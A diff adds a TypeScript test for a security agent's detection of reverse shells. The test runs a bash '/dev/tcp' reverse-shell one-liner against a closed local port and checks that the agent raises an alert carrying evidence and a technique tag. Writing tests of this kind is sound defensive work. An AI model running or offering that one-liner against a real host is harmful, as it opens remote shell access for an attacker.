@@ -1,0 +1,51 @@
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { STEADY, TestBed } from './test-bed.ts';
+
+/** Closed: nothing listens there, and the kernel refuses the connection. */
+const CLOSED = '127.0.0.1/1';
+
+describe('Detections of an agent', function () {
+  this.timeout(120_000);
+  let bed: TestBed;
+
+  beforeEach(async () => {
+    bed = await TestBed.open({ desired: STEADY });
+    bed.startWith(STEADY);
+  });
+  afterEach(() => bed.close());
+
+  /** As an attacker would, but to a closed port: the shell ends at once. */
+  const reverseShell = async (marker: string) => {
+    const child = spawn('/bin/bash', ['-c', `: ${marker}; bash -i >& /dev/tcp/${CLOSED} 0>&1`], { stdio: 'ignore' });
+    await once(child, 'exit');
+  };
+  const alerts = () => bed.elements('SecurityAlert').filter(({ AlertType }) => AlertType === 'IoT_ReverseShell');
+
+  it('raise an alert with the evidence, also while the events that they judge are Off', async () => {
+    const agent = bed.startAgent();
+    await agent.waitForStatus(
+      ({ hub, configuration }) => hub.state === 'connected' && configuration.source === 'desired',
+    );
+    // Whether the agent reads starts already is not in the status of a collector that is off.
+    const tried = setInterval(() => void reverseShell('one'), 1_000);
+    try {
+      await bed.waitForEvents(() => alerts().length > 0);
+    } finally {
+      clearInterval(tried);
+    }
+    const [alert = {}] = alerts();
+    assert.match(String(alert.CommandLine), /\/dev\/tcp\/127\.0\.0\.1\/1/);
+    assert.deepEqual([alert.EventName, alert.Count, alert.RuleSource], ['ProcessCreate', 1, 'builtin']);
+    assert.match(String(alert.Techniques), /T1059/);
+    assert.match(String(alert.ParentExecutable), /node/, JSON.stringify(alert));
+    assert.ok(String(alert.Remediation).length > 10);
+    assert.deepEqual(bed.elements('ProcessCreate'), []);
+
+    const { detections } = await agent.status();
+    assert.equal(detections?.state, 'on', JSON.stringify(detections));
+    assert.ok((detections?.alerts.high ?? 0) >= 1);
+    assert.equal(detections?.last?.type, 'IoT_ReverseShell');
+  });
+});
